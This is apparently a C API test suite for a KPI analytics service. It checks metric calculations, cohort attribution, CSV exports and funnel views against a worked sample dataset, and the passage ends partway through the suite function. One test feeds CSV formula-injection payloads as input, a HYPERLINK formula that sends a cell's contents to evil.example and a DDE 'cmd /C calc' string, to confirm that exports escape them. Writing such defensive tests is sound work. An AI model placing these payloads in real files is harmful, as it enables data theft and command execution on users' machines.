/* API tests of KPI results on a hand-built dataset: every catalogue metric in event and cohort
 * attribution, lag and maturity, as_of, channel filters, zero denominators, scoring, CSV, and
 * the funnel, channels, rejections and series views. Expected values are worked out below. */
#include "client.h"
#include "ingest_util.h"
#include "results_util.h"

#include <math.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/*
 * The dataset (workspace time zone UTC, calendar Mon-Fri 09:00-18:00, workday 480 minutes):
 *
 *   lead  channel created           valid sql brand first contact     meeting    proposal
 *   L0    seo     2024-12-20 10:00  yes   -   -     2025-01-02 10:00  2025-01-05 2025-01-06
 *   L1    seo     2025-01-06 10:00  yes   yes yes   2025-01-06 10:30  2025-01-08 2025-01-10
 *   L2    seo     2025-01-07 09:00  yes   yes -     2025-01-07 11:00  2025-01-15 -
 *   L3    ads     2025-01-10 17:00  yes   -   -     2025-01-13 09:10  -          -
 *   L4    ads     2025-01-15 12:00  NO ("not target")  2025-01-15 12:05
 *   L5    ads     2025-01-20 12:00  yes   -   -     -
 *
 * Reaction (working minutes): L1 30; L2 120; L3 Fri 17:00-18:00 + Mon 09:00-09:10 = 70.
 *
 *   deal  lead client status closed            amount  margin
 *   D0    L0   c1     won    2025-01-25 10:00   30000   10000
 *   D1    L1   c1     won    2025-01-20 10:00  100000   40000
 *   D2    L2   c2     won    2025-03-10 09:00   50000   (none)
 *   D3    -    -      won    2025-01-28 10:00   20000    5000  channel ads
 *   D4    L5   -      lost   2025-01-29 10:00   10000
 *
 * Spend: seo 2025-01-05 30000, ads 2025-01-15 20000, ads 2025-02-01 99999.
 * NPS: January 10, 9, 7, 3; February 10.
 *
 * January, event attribution, as_of 2025-06-01: leads L1..L5 = 5, valid 4 (L4 is not), SQL 2,
 * brand 1; contacted = valid leads first contacted in January = L0, L1, L2, L3 = 4; meetings
 * L0, L1, L2 = 3; proposals L0, L1 = 2; won deals closed in January D1, D0, D3 = 3; clients
 * (valid leads with a won deal) L1, L0 = 2; new clients D1 (no earlier c1 deal) and D3 (no
 * client) = 2, repeat D0 (D1 of c1 closed earlier) = 1; revenue 150000, new 120000, margin
 * 55000; spend 50000; reaction count 3, sum 220, median 70, within the workday 3; cycle days
 * D1 14, D0 36 -> median 25; NPS 4 answers, 2 promoters, 1 detractor.
 *
 * January, cohort attribution, lag 90 (horizon 2025-05-02), as_of 2025-06-01: the same lead
 * set; contacted L1, L2, L3 = 3; meetings L1, L2 = 2; proposals L1 = 1; won deals of January
 * leads D1, D2 = 2; clients 2; new clients 2 (c1's D1 is its first, c2's D2 too), repeat 0;
 * revenue 150000, new 150000, margin 40000 (D2 has none); cycle days D1 14, D2 62 -> 38.
 */

static const char *const AS_OF_JUNE = "2025-06-01T00:00:00Z";

/* A monthly KPI on a catalogue metric. */
static void add_kpi(const char *key, const char *code, const char *metric, const char *attribution,
                    int lag)
{
    char body[512];
    snprintf(body, sizeof body,
             "{\"code\":\"%s\",\"name\":\"%s\",\"owner\":\"shared\",\"metric\":\"%s\","
             "\"granularity\":\"month\",\"attribution\":\"%s\",\"lag_days\":%d}",
             code, code, metric, attribution, lag);
    post_ok(key, "/v1/kpis", body);
}

static void add_lead(const char *key, const char *external_id, const char *json_rest)
{
    char body[1024];
    snprintf(body, sizeof body, "{\"source\":\"crm\",\"external_id\":\"%s\",%s}", external_id,
             json_rest);
    post_ok(key, "/v1/leads", body);
}

static void add_deal(const char *key, const char *json)
{
    post_ok(key, "/v1/deals", json);
}

/* The dataset described above, in a new workspace; returns its admin key (free it). */
static char *dataset(const char *workspace)
{
    char *key = api_new_workspace_key(workspace, "admin");
    add_lead(
        key, "L0",
        "\"channel\":\"seo\",\"created_at\":\"2024-12-20T10:00:00Z\","
        "\"contact\":{\"email\":\"l0@example.com\"},"
        "\"first_contact_at\":\"2025-01-02T10:00:00Z\",\"meeting_at\":\"2025-01-05T10:00:00Z\","
        "\"proposal_at\":\"2025-01-06T10:00:00Z\"");
    add_lead(
        key, "L1",
        "\"channel\":\"seo\",\"created_at\":\"2025-01-06T10:00:00Z\","
        "\"contact\":{\"email\":\"l1@example.com\"},\"is_sql\":true,\"is_brand\":true,"
        "\"first_contact_at\":\"2025-01-06T10:30:00Z\",\"meeting_at\":\"2025-01-08T10:00:00Z\","
        "\"proposal_at\":\"2025-01-10T10:00:00Z\"");
    add_lead(
        key, "L2",
        "\"channel\":\"seo\",\"created_at\":\"2025-01-07T09:00:00Z\","
        "\"contact\":{\"phone\":\"+7 900 000-00-02\"},\"is_sql\":true,"
        "\"first_contact_at\":\"2025-01-07T11:00:00Z\",\"meeting_at\":\"2025-01-15T10:00:00Z\"");
    add_lead(key, "L3",
             "\"channel\":\"ads\",\"created_at\":\"2025-01-10T17:00:00Z\","
             "\"contact\":{\"email\":\"l3@example.com\"},"
             "\"first_contact_at\":\"2025-01-13T09:10:00Z\"");
    add_lead(key, "L4",
             "\"channel\":\"ads\",\"created_at\":\"2025-01-15T12:00:00Z\","
             "\"contact\":{\"email\":\"l4@example.com\"},\"is_valid\":false,"
             "\"invalid_reason\":\"not target\",\"first_contact_at\":\"2025-01-15T12:05:00Z\"");
    add_lead(key, "L5",
             "\"channel\":\"ads\",\"created_at\":\"2025-01-20T12:00:00Z\","
             "\"contact\":{\"email\":\"l5@example.com\"}");
    add_deal(key, "{\"source\":\"crm\",\"external_id\":\"D0\",\"lead_external_id\":\"L0\","
                  "\"client_ref\":\"c1\",\"amount\":30000,\"gross_margin\":10000,"
                  "\"status\":\"won\",\"closed_at\":\"2025-01-25T10:00:00Z\"}");
    add_deal(key, "{\"source\":\"crm\",\"external_id\":\"D1\",\"lead_external_id\":\"L1\","
                  "\"client_ref\":\"c1\",\"amount\":100000,\"gross_margin\":40000,"
                  "\"status\":\"won\",\"closed_at\":\"2025-01-20T10:00:00Z\"}");
    add_deal(key, "{\"source\":\"crm\",\"external_id\":\"D2\",\"lead_external_id\":\"L2\","
                  "\"client_ref\":\"c2\",\"amount\":50000,"
                  "\"status\":\"won\",\"closed_at\":\"2025-03-10T09:00:00Z\"}");
    add_deal(key, "{\"source\":\"crm\",\"external_id\":\"D3\",\"channel\":\"ads\","
                  "\"amount\":20000,\"gross_margin\":5000,"
                  "\"status\":\"won\",\"closed_at\":\"2025-01-28T10:00:00Z\"}");
    add_deal(key, "{\"source\":\"crm\",\"external_id\":\"D4\",\"lead_external_id\":\"L5\","
                  "\"amount\":10000,\"status\":\"lost\",\"closed_at\":\"2025-01-29T10:00:00Z\"}");
    post_ok(key, "/v1/spend", "{\"channel\":\"seo\",\"date\":\"2025-01-05\",\"amount\":30000}");
    post_ok(key, "/v1/spend", "{\"channel\":\"ads\",\"date\":\"2025-01-15\",\"amount\":20000}");
    post_ok(key, "/v1/spend", "{\"channel\":\"ads\",\"date\":\"2025-02-01\",\"amount\":99999}");
    const char *nps[] = {"{\"score\":10,\"responded_at\":\"2025-01-03T10:00:00Z\"}",
                         "{\"score\":9,\"responded_at\":\"2025-01-04T10:00:00Z\"}",
                         "{\"score\":7,\"responded_at\":\"2025-01-05T10:00:00Z\"}",
                         "{\"score\":3,\"responded_at\":\"2025-01-06T10:00:00Z\"}",
                         "{\"score\":10,\"responded_at\":\"2025-02-06T10:00:00Z\"}"};
    for (size_t i = 0; i < sizeof nps / sizeof nps[0]; i++)
        post_ok(key, "/v1/nps-responses", nps[i]);
    return key;
}

/* Every catalogue metric with its expected January fact in event and cohort attribution. */
static const struct {
    const char *metric;
    double event, cohort;
} METRICS[] = {
    {"leads", 5, 5},
    {"valid_leads", 4, 4},
    {"cpl", 50000.0 / 4, 50000.0 / 4},
    {"sql_share", 100.0 * 2 / 4, 100.0 * 2 / 4},
    {"brand_lead_share", 100.0 * 1 / 4, 100.0 * 1 / 4},
    {"cr_lead_contact", 100.0 * 4 / 4, 100.0 * 3 / 4},
    {"cr_contact_meeting", 100.0 * 3 / 4, 100.0 * 2 / 3},
    {"cr_meeting_proposal", 100.0 * 2 / 3, 100.0 * 1 / 2},
    {"cr_proposal_deal", 100.0 * 2 / 2, 100.0 * 2 / 1},
    {"cr_lead_client", 100.0 * 2 / 4, 100.0 * 2 / 4},
    {"reaction_time_avg", 220.0 / 3, 220.0 / 3},
    {"reaction_time_median", 70, 70},
    {"processed_within_workday_share", 100.0 * 3 / 4, 100.0 * 3 / 4},
    {"won_deals", 3, 2},
    {"clients", 2, 2},
    {"new_clients", 2, 2},
    {"repeat_purchases", 1, 0},
    {"revenue", 150000, 150000},
    {"revenue_new_clients", 120000, 150000},
    {"gross_margin", 55000, 40000},
    {"spend", 50000, 50000},
    {"avg_check", 150000.0 / 3, 150000.0 / 2},
    {"gross_margin_pct", 100.0 * 55000 / 150000, 100.0 * 40000 / 150000},
    {"cac", 50000.0 / 2, 50000.0 / 2},
    {"romi", 100.0 * (55000 - 50000) / 50000, 100.0 * (40000 - 50000) / 50000},
    {"roas", 100.0 * 150000 / 50000, 100.0 * 150000 / 50000},
    {"deal_cycle_days", 25, 38},
    {"nps", 100.0 * (2 - 1) / 4, 100.0 * (2 - 1) / 4},
};
#define N_METRICS (sizeof METRICS / sizeof METRICS[0])

START_TEST(every_metric_in_both_attributions)
{
    char *key = dataset("results-metrics");
    char code[64];
    for (size_t i = 0; i < N_METRICS; i++) {
        snprintf(code, sizeof code, "e_%s", METRICS[i].metric);
        add_kpi(key, code, METRICS[i].metric, "event", 0);
        snprintf(code, sizeof code, "c_%s", METRICS[i].metric);
        add_kpi(key, code, METRICS[i].metric, "cohort", 90);
    }
    struct api_response *r = get_ok(key, "/v1/periods/2025-01/results?as_of=%s", AS_OF_JUNE);
    ck_assert_int_eq(json_array_size(api_json_at(r, "/results")), 2 * N_METRICS);
    for (size_t i = 0; i < N_METRICS; i++) {
        snprintf(code, sizeof code, "e_%s", METRICS[i].metric);
        assert_number(result_of(r, code), code, "fact", METRICS[i].event);
        snprintf(code, sizeof code, "c_%s", METRICS[i].metric);
        assert_number(result_of(r, code), code, "fact", METRICS[i].cohort);
    }
    /* the inputs come along: CAC reads spend and new clients */
    assert_number(result_of(r, "e_cac"), "e_cac", "measures/spend", 50000);
    assert_number(result_of(r, "e_cac"), "e_cac", "measures/new_clients", 2);
    /* cohort lag 90: matures 2025-02-01 + 90 days = 2025-05-02; as_of June is after it */
    assert_text(result_of(r, "c_won_deals"), "c_won_deals", "matures_on", "2025-05-02");
    assert_text(result_of(r, "c_won_deals"), "c_won_deals", "maturity", "final");
    assert_text(result_of(r, "e_won_deals"), "e_won_deals", "matures_on", "2025-02-01");
    /* previous period 2024-12: L0 is its only lead */
    assert_text(result_of(r, "e_leads"), "e_leads", "previous/period", "2024-12");
    assert_number(result_of(r, "e_leads"), "e_leads", "previous/fact", 1);
    assert_number(result_of(r, "e_leads"), "e_leads", "change", 4);
    assert_number(result_of(r, "e_leads"), "e_leads", "change_pct", 400);
    api_response_free(r);
    free(key);
}
END_TEST

START_TEST(cohort_lag_counts_a_late_deal_once_it_closes)
{
    char *key = dataset("results-lag");
    add_kpi(key, "c_won", "won_deals", "cohort", 90);
    add_kpi(key, "e_won", "won_deals", "event", 0);
    /* as_of 2025-03-01: D2 (closes 2025-03-10) not yet; January's cohort has D1 only */
    struct api_response *r = get_ok(key, "/v1/periods/2025-01/results?as_of=2025-03-01T00:00:00Z");
    assert_number(result_of(r, "c_won"), "c_won", "fact", 1);
    assert_text(result_of(r, "c_won"), "c_won", "maturity", "provisional");
    api_response_free(r);
    /* after D2 closed: 2 in January's cohort, still provisional before 2025-05-02 */
    r = get_ok(key, "/v1/periods/2025-01/results?as_of=2025-03-11T00:00:00%%2B03:00");
    assert_number(result_of(r, "c_won"), "c_won", "fact", 2);
    assert_text(result_of(r, "c_won"), "c_won", "maturity", "provisional");
    /* event attribution keeps D1, D0, D3 in January */
    assert_number(result_of(r, "e_won"), "e_won", "fact", 3);
    api_response_free(r);
    r = get_ok(key, "/v1/periods/2025-01/results?as_of=2025-05-02T00:00:00Z");
    assert_text(result_of(r, "c_won"), "c_won", "maturity", "final");
    api_response_free(r);
    /* event attribution puts D2 in March */
    r = get_ok(key, "/v1/periods/2025-03/results?as_of=%s", AS_OF_JUNE);
    assert_number(result_of(r, "e_won"), "e_won", "fact", 1);
    /* March's cohort has no leads */
    assert_number(result_of(r, "c_won"), "c_won", "fact", 0);
    api_response_free(r);
    free(key);
}
END_TEST

START_TEST(as_of_inside_the_period)
{
    char *key = dataset("results-as-of");
    add_kpi(key, "leads", "leads", "event", 0);
    add_kpi(key, "contact", "cr_lead_contact", "event", 0);
    add_kpi(key, "cpl", "cpl", "event", 0);
    add_kpi(key, "react", "reaction_time_avg", "event", 0);
    add_kpi(key, "won", "won_deals", "event", 0);
    /* as_of 2025-01-12: leads L1, L2, L3 (all valid); contacted in January by then L0, L1,
     * L2 = 3; spend dated by 2025-01-12: seo 30000; reacted L1 30 and L2 120; no deal yet */
    struct api_response *r = get_ok(key, "/v1/periods/2025-01/results?as_of=2025-01-12T00:00:00Z");
    assert_number(result_of(r, "leads"), "leads", "fact", 3);
    assert_number(result_of(r, "contact"), "contact", "fact", 100.0 * 3 / 3);
    assert_number(result_of(r, "cpl"), "cpl", "fact", 30000.0 / 3);
    assert_number(result_of(r, "react"), "react", "fact", 150.0 / 2);
    assert_number(result_of(r, "won"), "won", "fact", 0);
    assert_text(result_of(r, "won"), "won", "maturity", "provisional");
    ck_assert_str_eq(api_json_string(r, "/as_of"), "2025-01-12T00:00:00Z");
    api_response_free(r);
    r = api_get("/v1/periods/2025-01/results?as_of=2025-01-12T00:00:00", key);
    api_assert_problem(r, 422);
    api_response_free(r);
    free(key);
}
END_TEST

START_TEST(channel_filter)
{
    char *key = dataset("results-channel");
    add_kpi(key, "leads", "leads", "event", 0);
    add_kpi(key, "cpl", "cpl", "event", 0);
    add_kpi(key, "revenue", "revenue", "event", 0);
    add_kpi(key, "contacted", "cr_lead_contact", "event", 0);
    /* seo: leads L1, L2; spend 30000; won deals D1 and D0 (D3 is ads): 130000; contacted
     * (valid seo leads first contacted in January) L0, L1, L2 = 3 of 2 valid leads */
    struct api_response *r =
        get_ok(key, "/v1/periods/2025-01/results?channel=seo&as_of=%s", AS_OF_JUNE);
    assert_number(result_of(r, "leads"), "leads", "fact", 2);
    assert_number(result_of(r, "cpl"), "cpl", "fact", 15000);
    assert_number(result_of(r, "revenue"), "revenue", "fact", 130000);
    assert_number(result_of(r, "contacted"), "contacted", "fact", 150);
    api_response_free(r);
    /* a KPI filtered to ads, asked for seo: nothing passes */
    post_ok(key, "/v1/kpis",
            "{\"code\":\"ads_leads\",\"name\":\"Ads leads\",\"owner\":\"marketing\","
            "\"metric\":\"leads\",\"granularity\":\"month\",\"filters\":{\"channels\":[\"ads\"]}}");
    r = get_ok(key, "/v1/periods/2025-01/results?as_of=%s", AS_OF_JUNE);
    assert_number(result_of(r, "ads_leads"), "ads_leads", "fact", 3);
    api_response_free(r);
    r = get_ok(key, "/v1/periods/2025-01/results?channel=seo&as_of=%s", AS_OF_JUNE);
    assert_number(result_of(r, "ads_leads"), "ads_leads", "fact", 0);
    api_response_free(r);
    free(key);
}
END_TEST

START_TEST(zero_denominators_and_scoring)
{
    char *key = dataset("results-scoring");
    add_kpi(key, "cpl", "cpl", "event", 0);
    add_kpi(key, "cac", "cac", "event", 0);
    add_kpi(key, "roas", "roas", "event", 0);
    put_ok(key, "/v1/periods/2025-01", "{}");
    put_ok(key, "/v1/periods/2025-01/targets/cpl", "{\"base\":15000,\"plan\":10000}");
    put_ok(key, "/v1/periods/2025-01/targets/cac", "{\"base\":20000,\"plan\":18000}");
    put_ok(key, "/v1/periods/2025-01/targets/roas", "{\"plan\":100,\"stretch\":250}");
    post_ok(key, "/v1/scorecards",
            "{\"code\":\"gatecap\",\"name\":\"Gate and cap\",\"granularity\":\"month\","
            "\"fixed_pay\":1000,\"bonus_base\":100,\"items\":[{\"kpi\":\"cac\",\"weight\":0.5},"
            "{\"kpi\":\"roas\",\"weight\":0.5}]}");
    struct api_response *r = get_ok(key, "/v1/periods/2025-01/results?as_of=%s", AS_OF_JUNE);
    /* lower is better: 10000 / 12500 = 0.8, worse than plan but not than base */
    assert_number(result_of(r, "cpl"), "cpl", "attainment", 0.8);
    assert_text(result_of(r, "cpl"), "cpl", "status", "below_plan");
    /* CAC 25000 is worse than its base 20000: the gate */
    assert_number(result_of(r, "cac"), "cac", "attainment", 18000.0 / 25000);
    assert_text(result_of(r, "cac"), "cac", "status", "below_base");
    /* ROAS 300 against plan 100: attainment 3, at or above stretch 250 */
    assert_number(result_of(r, "roas"), "roas", "attainment", 3);
    assert_text(result_of(r, "roas"), "roas", "status", "exceeded");
    api_response_free(r);
    /* gate: CAC's item counts 0; cap: ROAS's 3 is capped at 2; total 0.5 * 0 + 0.5 * 2 = 1 */
    r = get_ok(key, "/v1/periods/2025-01/scorecards?as_of=%s", AS_OF_JUNE);
    json_t *sc = api_json_at(r, "/scorecards/0");
    assert_number(sc, "gatecap", "items/0/capped_attainment", 0);
    assert_number(sc, "gatecap", "items/1/capped_attainment", 2);
    assert_number(sc, "gatecap", "items/1/item_bonus", 100);
    assert_number(sc, "gatecap", "total", 1);
    assert_number(sc, "gatecap", "bonus", 100);
    assert_number(sc, "gatecap", "payout", 1100);
    api_response_free(r);
    /* February: spend 99999 but no lead and no deal: CPL and CAC null, no_data */
    r = get_ok(key, "/v1/periods/2025-02/results?as_of=%s", AS_OF_JUNE);
    assert_number(result_of(r, "cpl"), "cpl", "fact", NAN);
    assert_text(result_of(r, "cpl"), "cpl", "status", "no_data");
    assert_number(result_of(r, "cac"), "cac", "attainment", NAN);
    assert_number(result_of(r, "roas"), "roas", "fact", 0);
    api_response_free(r);
    free(key);
}
END_TEST

/* The CSV cell of `column` in a CSV line (no quoted commas in these rows). */
static void csv_cell(const char *header, const char *line, const char *column, char *out,
                     size_t size)
{
    int index = -1, i = 0;
    for (const char *h = header; *h; i++) {
        size_t n = strcspn(h, ",\r\n");
        if (strlen(column) == n && strncmp(h, column, n) == 0)
            index = i;
        h += n;
        if (*h == ',')
            h++;
        else
            break;
    }
    ck_assert_msg(index >= 0, "no column %s in %s", column, header);
    const char *c = line;
    for (i = 0; i < index; i++)
        c += strcspn(c, ",") + 1;
    size_t n = strcspn(c, ",\r\n");
    ck_assert(n < size);
    memcpy(out, c, n);
    out[n] = '\0';
}

START_TEST(csv_equals_json)
{
    char *key = dataset("results-csv");
    for (size_t i = 0; i < N_METRICS; i++)
        add_kpi(key, METRICS[i].metric, METRICS[i].metric, "event", 0);
    struct api_response *json = get_ok(key, "/v1/periods/2025-01/results?as_of=%s", AS_OF_JUNE);
    struct api_response *csv =
        api_request("GET", "/v1/periods/2025-01/results?as_of=2025-06-01T00:00:00Z", key, NULL,
                    NULL, "Accept: text/csv");
    api_assert_status(csv, 200);
    ck_assert(api_content_type_is(csv, "text/csv"));
    char *text = strdup(csv->body);
    char *save = NULL;
    char *header = strtok_r(text, "\n", &save);
    size_t rows = 0;
    for (char *line = strtok_r(NULL, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
        char kpi[64], fact[64], plan[64];
        csv_cell(header, line, "kpi", kpi, sizeof kpi);
        csv_cell(header, line, "fact", fact, sizeof fact);
        csv_cell(header, line, "target_plan", plan, sizeof plan);
        const json_t *r = result_of(json, kpi);
        const json_t *f = json_object_get(r, "fact");
        if (json_is_null(f))
            ck_assert_str_eq(fact, "");
        else
            ck_assert_msg(strtod(fact, NULL) == json_number_value(f), "%s: csv %s", kpi, fact);
        ck_assert_str_eq(plan, "");
        rows++;
    }
    ck_assert_int_eq(rows, N_METRICS);
    free(text);
    api_response_free(csv);
    csv = get_ok(key, "/v1/periods/2025-01/funnel?format=csv&as_of=%s", AS_OF_JUNE);
    ck_assert(api_content_type_is(csv, "text/csv"));
    ck_assert_msg(strncmp(csv->body, "step,count,conversion\r\nleads,5,\r\n", 33) == 0, "%s",
                  csv->body);
    api_response_free(csv);
    api_response_free(json);
    csv = api_get("/v1/periods/2025-01/results?format=xml", key);
    api_assert_problem(csv, 422);
    api_response_free(csv);
    free(key);
}
END_TEST

START_TEST(funnel_channels_rejections_series)
{
    char *key = dataset("results-views");
    /* event funnel of January: 5 leads, 4 valid, 4 contacted, 3 meetings, 2 proposals, 2
     * clients */
    struct api_response *r = get_ok(key, "/v1/periods/2025-01/funnel?as_of=%s", AS_OF_JUNE);
    const double counts[] = {5, 4, 4, 3, 2, 2};
    const double conversions[] = {NAN, 80, 100, 75, 100.0 * 2 / 3, 100};
    for (int i = 0; i < 6; i++) {
        char pointer[32];
        snprintf(pointer, sizeof pointer, "/steps/%d", i);
        assert_number(api_json_at(r, pointer), pointer, "count", counts[i]);
        assert_number(api_json_at(r, pointer), pointer, "conversion", conversions[i]);
    }
    assert_number(api_json_at(r, ""), "funnel", "lead_to_client", 50);
    api_response_free(r);
    /* cohort funnel, lag 90: contacted 3, meetings 2, proposals 1, clients 2 */
    r = get_ok(key, "/v1/periods/2025-01/funnel?attribution=cohort&lag_days=90&as_of=%s",
               AS_OF_JUNE);
    assert_number(api_json_at(r, "/steps/2"), "contacted", "count", 3);
    assert_number(api_json_at(r, "/steps/5"), "clients", "count", 2);
    assert_number(api_json_at(r, "/steps/5"), "clients", "conversion", 200);
    api_response_free(r);
    /* channels: ads has L3, L4, L5 (valid 2), spend 20000, D3 (20000, margin 5000, no lead);
     * seo has L1, L2, spend 30000, D1 + D0 = 130000, margin 50000, clients L1, L0 */
    r = get_ok(key, "/v1/periods/2025-01/channels?as_of=%s", AS_OF_JUNE);
    json_t *ads = api_json_at(r, "/channels/0"), *seo = api_json_at(r, "/channels/1");
    assert_text(ads, "ads", "channel", "ads");
    assert_number(ads, "ads", "leads", 3);
    assert_number(ads, "ads", "cpl", 10000);
    assert_number(ads, "ads", "cac", 20000);
    assert_number(ads, "ads", "romi", 100.0 * (5000 - 20000) / 20000);
    assert_number(ads, "ads", "roas", 100);
    assert_text(seo, "seo", "channel", "seo");
    assert_number(seo, "seo", "clients", 2);
    assert_number(seo, "seo", "cpl", 15000);
    assert_number(seo, "seo", "cac", 30000);
    assert_number(seo, "seo", "roas", 100.0 * 130000 / 30000);
    api_response_free(r);
    /* rejections: L4, not target, ads */
    r = get_ok(key, "/v1/periods/2025-01/rejections?as_of=%s", AS_OF_JUNE);
    assert_number(api_json_at(r, ""), "rejections", "total", 1);
    assert_text(api_json_at(r, "/rejections/0"), "rejection", "reason", "not target");
    assert_text(api_json_at(r, "/rejections/0"), "rejection", "channel", "ads");
    api_response_free(r);
    /* series: every month from 2024-11 to 2025-03 present, empty ones 0 or null */
    add_kpi(key, "leads", "leads", "event", 0);
    add_kpi(key, "cpl", "cpl", "event", 0);
    r = get_ok(key, "/v1/kpis/leads/series?from=2024-11&to=2025-03&as_of=%s", AS_OF_JUNE);
    const double leads[] = {0, 1, 5, 0, 0};
    ck_assert_int_eq(json_array_size(api_json_at(r, "/items")), 5);
    for (int i = 0; i < 5; i++) {
        char pointer[32];
        snprintf(pointer, sizeof pointer, "/items/%d", i);
        assert_number(api_json_at(r, pointer), pointer, "fact", leads[i]);
    }
    ck_assert_str_eq(api_json_string(r, "/items/0/period"), "2024-11");
    api_response_free(r);
    r = get_ok(key, "/v1/kpis/cpl/series?from=2025-01&to=2025-02&as_of=%s", AS_OF_JUNE);
    assert_number(api_json_at(r, "/items/0"), "2025-01", "fact", 12500);
    assert_number(api_json_at(r, "/items/1"), "2025-02", "fact", NAN);
    api_response_free(r);
    r = api_get("/v1/kpis/cpl/series?from=2025-01&to=2030-01", key);
    api_assert_problem(r, 422);
    api_response_free(r);
    r = api_get("/v1/kpis/cpl/series?from=2025-Q1&to=2025-Q2", key);
    api_assert_problem(r, 422);
    api_response_free(r);
    r = api_get("/v1/kpis/nope/series?from=2025-01&to=2025-02", key);
    api_assert_problem(r, 404);
    api_response_free(r);
    r = api_get("/v1/periods/2025-13/results", key);
    api_assert_problem(r, 404);
    api_response_free(r);
    free(key);
}
END_TEST

/* A month's new clients and repeat purchases in event attribution, as of June 2025. */
static void assert_new_and_repeat(const char *key, const char *month, double new_clients,
                                  double repeats)
{
    struct api_response *r = get_ok(key, "/v1/periods/%s/results?as_of=%s", month, AS_OF_JUNE);
    assert_number(result_of(r, "new"), month, "fact", new_clients);
    assert_number(result_of(r, "repeat"), month, "fact", repeats);
    api_response_free(r);
}

static void patch_deal_ok(const char *key, const char *id, const char *json)
{
    struct api_response *r = api_sendf("PATCH", ingest_path("/v1/deals", id), key, "%s", json);
    api_assert_status(r, 200);
    api_response_free(r);
}

/* Whether a won deal is its client's first follows later writes of the client's other deals. */
START_TEST(new_clients_follow_deal_changes)
{
    char *key = dataset("results-new-clients");
    add_kpi(key, "new", "new_clients", "event", 0);
    add_kpi(key, "repeat", "repeat_purchases", "event", 0);
    /* D5 of c1 closes 2025-01-10, before D1 and D0: January's new clients D5 and D3, repeat
     * purchases D1 and D0 */
    char d5[64];
    snprintf(d5, sizeof d5, "%s",
             post_ok(key, "/v1/deals",
                     "{\"source\":\"crm\",\"external_id\":\"D5\",\"client_ref\":\"c1\","
                     "\"amount\":1000,\"status\":\"won\",\"closed_at\":\"2025-01-10T10:00:00Z\"}"));
    assert_new_and_repeat(key, "2025-01", 2, 2);
    /* D5 falls through: D1 is c1's first again, D0 a repeat */
    patch_deal_ok(key, d5, "{\"status\":\"lost\"}");
    assert_new_and_repeat(key, "2025-01", 2, 1);
    /* won after all, in February: a repeat purchase of c1 there, January unchanged */
    patch_deal_ok(key, d5, "{\"status\":\"won\",\"closed_at\":\"2025-02-03T10:00:00Z\"}");
    assert_new_and_repeat(key, "2025-01", 2, 1);
    assert_new_and_repeat(key, "2025-02", 0, 1);
    /* D5 turns out to be client c3's: its first */
    patch_deal_ok(key, d5, "{\"client_ref\":\"c3\"}");
    assert_new_and_repeat(key, "2025-02", 1, 0);
    free(key);
}
END_TEST

/* Text a spreadsheet would run as a formula comes out of every CSV with a leading
 * apostrophe (OWASP's advice); numbers keep their sign. */
START_TEST(csv_cells_never_start_a_formula)
{
    char *key = api_new_workspace_key("results-csv-formulas", "admin");
    struct api_response *r = api_post_json(
        "/v1/leads", key,
        "{\"channel\":\"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"Click\\\")\","
        "\"created_at\":\"2025-01-10T10:00:00Z\",\"is_valid\":false,"
        "\"invalid_reason\":\"-2+3+cmd|' /C calc'!A0\",\"contact\":{\"name\":\"@SUM(1)\"}}");
    api_assert_status(r, 201);
    api_response_free(r);
    r = get_ok(key, "/v1/periods/2025-01/channels?format=csv&as_of=%s", AS_OF_JUNE);
    ck_assert(api_content_type_is(r, "text/csv"));
    ck_assert_msg(
        strstr(r->body, "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"") !=
            NULL,
        "%s", r->body);
    ck_assert_msg(strstr(r->body, "\r\n\"=") == NULL && strstr(r->body, ",\"=") == NULL, "%s",
                  r->body);
    api_response_free(r);
    r = get_ok(key, "/v1/periods/2025-01/rejections?format=csv&as_of=%s", AS_OF_JUNE);
    ck_assert_msg(strstr(r->body, ",'-2+3+cmd|' /C calc'!A0") != NULL ||
                      strstr(r->body, "\n'-2+3+cmd|' /C calc'!A0") != NULL,
                  "%s", r->body);
    ck_assert_msg(strstr(r->body, ",-2+3") == NULL && strstr(r->body, "\n-2+3") == NULL, "%s",
                  r->body);
    api_response_free(r);
    free(key);
}
END_TEST

/* ?dialect=excel: the bytes Excel with Russian regional settings reads as cells and numbers. */
START_TEST(excel_csv_bytes)
{
    char *key = api_new_workspace_key("results-csv-excel", "admin");
    post_ok(key, "/v1/leads",
            "{\"channel\":\"Partner; \\\"VIP\\\", 1.5\",\"created_at\":\"2025-01-10T10:00:00Z\"}");
    post_ok(key, "/v1/spend",
            "{\"channel\":\"Partner; \\\"VIP\\\", 1.5\",\"date\":\"2025-01-05\",\"amount\":1234.5}");
    struct api_response *plain =
        get_ok(key, "/v1/periods/2025-01/channels?format=csv&as_of=%s", AS_OF_JUNE);
    struct api_response *excel =
        get_ok(key, "/v1/periods/2025-01/channels?format=csv&dialect=excel&as_of=%s", AS_OF_JUNE);
    ck_assert(api_content_type_is(excel, "text/csv"));
    /* the UTF-8 byte order mark, then the header with ';' between the names */
    ck_assert_msg(strncmp(excel->body, "\xEF\xBB\xBF" "channel;", 11) == 0, "%s", excel->body);
    /* the channel is quoted (it holds ';' and '"'), its comma and point kept as text; spend
     * and CPL (1234.5 over one lead) carry decimal commas */
    ck_assert_msg(strstr(excel->body, "\r\n\"Partner; \"\"VIP\"\", 1.5\";") != NULL, "%s",
                  excel->body);
    ck_assert_msg(strstr(excel->body, ";1234,5;") != NULL, "%s", excel->body);
    ck_assert_msg(strstr(excel->body, "1234.5") == NULL, "%s", excel->body);
    /* cell for cell the RFC 4180 answer with ',' -> ';' outside text and '.' -> ',' in numbers */
    ck_assert_msg(strstr(plain->body, ",1234.5,") != NULL, "%s", plain->body);
    ck_assert_int_eq(strlen(excel->body), strlen(plain->body) + 3);
    api_response_free(plain);
    api_response_free(excel);
    /* JSON stays JSON; an unknown dialect is a 422 naming it */
    struct api_response *r = get_ok(key, "/v1/periods/2025-01/channels?dialect=excel&as_of=%s",
                                    AS_OF_JUNE);
    ck_assert(api_content_type_is(r, "application/json"));
    api_response_free(r);
    r = api_get("/v1/periods/2025-01/results?format=csv&dialect=lotus", key);
    api_assert_problem(r, 422);
    ck_assert_msg(strstr(r->body, "/dialect") != NULL, "%s", r->body);
    api_response_free(r);
    free(key);
}
END_TEST

Suite *api_results_suite(void)
{
    Suite *s = suite_create("api_results");
    TCase *tc = tcase_create("results");
    tcase_set_timeout(tc, 60);
